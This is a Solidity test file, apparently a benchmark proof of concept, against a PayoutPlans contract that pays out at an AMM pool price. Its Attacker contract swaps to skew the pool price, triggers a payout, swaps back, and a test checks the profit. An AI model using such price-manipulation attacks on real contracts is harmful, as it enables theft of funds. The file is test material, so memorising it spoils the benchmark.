// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-5b7daba6-99e2-40e8-b76d-43715a60b3ae

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./PayoutPlans.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    constructor() ERC20("T", "T") {
        _mint(msg.sender, 10_000_000e18);
    }
}

contract Coin is ERC20 {
    constructor() ERC20("C", "C") {
        _mint(msg.sender, 10_000_000e18);
    }
}

contract Attacker {
    function pass(PayoutPlans plans, uint256 id) external {
        Pool p = plans.m();
        uint256 n = p.t().balanceOf(address(this));
        p.t().approve(address(p), n);
        uint256 got = p.swap(true, n, 0, address(this));
        plans.pay(id);
        p.c().approve(address(p), got);
        p.swap(false, got, 0, address(this));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant UMA = address(0x0A3A);
    uint256 private constant START = 1_774_400_000;

    Token public token;
    Coin public coin;
    Pool public pool;
    PayoutPlans public plans;
    Attacker public x;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        coin = new Coin();
        pool = new Pool(token, coin);
        token.approve(address(pool), type(uint256).max);
        coin.approve(address(pool), type(uint256).max);
        pool.add(1_000_000e18, 2_000_000e18);
        plans = new PayoutPlans(pool);
        token.transfer(UMA, 200_000e18);
        vm.startPrank(UMA);
        token.approve(address(plans), type(uint256).max);
        plans.make(50_000e18, 120_000e18, 30 days, 1.85e18);
        vm.stopPrank();
        x = new Attacker();
        token.transfer(address(x), 1_000_000e18);
    }

    function test_Regular() public {
        require(plans.quoteOf(0) == 92_500e18, "in mind");
        uint256 fair = pool.give(true, 50_000e18);
        require(plans.pay(0) == fair && coin.balanceOf(UMA) == fair, "paid");
        vm.warp(START + 30 days);
        pool.swap(false, 100_000e18, 0, address(this));
        plans.pay(0);
        vm.warp(START + 60 days);
        pool.swap(false, 60_000e18, 0, address(this));
        uint256 rest = plans.pay(0);
        require(rest < fair && token.balanceOf(address(plans)) == 0, "the rest");
        vm.startPrank(UMA);
        require(plans.make(1e18, 10e18, 1 days, 2e18) == 1, "another");
        plans.reprice(1, 1e18);
        plans.end(1);
        vm.stopPrank();
        require(token.balanceOf(UMA) == 80_000e18 && plans.quoteOf(1) == 1e18, "ended");
    }

    function test_Refuses() public {
        vm.expectRevert(abi.encodeWithSelector(PayoutPlans.BadPlan.selector));
        plans.make(0, 1, 1, 1);
        vm.expectRevert(abi.encodeWithSelector(PayoutPlans.BadPlan.selector));
        plans.make(2, 1, 1, 1);
        vm.expectRevert(abi.encodeWithSelector(PayoutPlans.BadPlan.selector));
        plans.make(1, 1, 0, 1);
        vm.expectRevert(abi.encodeWithSelector(PayoutPlans.NotOwner.selector));
        plans.reprice(0, 1);
        vm.expectRevert(abi.encodeWithSelector(PayoutPlans.NotOwner.selector));
        plans.end(0);
        plans.pay(0);
        vm.warp(START + 30 days - 1);
        vm.expectRevert(abi.encodeWithSelector(PayoutPlans.NotDue.selector));
        plans.pay(0);
        vm.prank(UMA);
        plans.end(0);
        vm.warp(START + 30 days);
        vm.expectRevert(abi.encodeWithSelector(PayoutPlans.NotDue.selector));
        plans.pay(0);
        vm.expectRevert(abi.encodeWithSelector(Pool.Less.selector, pool.give(true, 1e18)));
        pool.swap(true, 1e18, 2e18, address(this));
    }

    function exploit() public {
        x.pass(plans, 0);
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(x)) >= 1_020_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(plans);
    }

    function attacker() public view returns (address) {
        return address(x);
    }
}
